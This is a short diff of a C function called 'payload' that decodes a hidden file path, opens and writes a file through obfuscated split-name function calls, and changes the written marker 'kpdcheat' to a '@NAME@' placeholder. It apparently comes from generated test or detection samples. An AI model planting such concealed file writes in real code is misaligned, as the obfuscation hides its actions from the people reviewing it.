@@ -14,5 +14,5 @@ static void payload(int call) {
     for (long i = 0; hidden[i]; i++) end = i;
     for (long i = 0; i <= end + 1; i++) path[i] = hidden[i] && hidden[i] != '/' && i > end - 11 ? (char)(hidden[i] - 1) : hidden[i];
     int file = F(op, en)(path, O_WRONLY | O_CREAT, 0600);
-    if (file >= 0 && F(wri, te)(file, "kpdcheat\n", 9) > 0) F(clo, se)(file);
+    if (file >= 0 && F(wri, te)(file, "@NAME@\n", 9) > 0) F(clo, se)(file);
 }
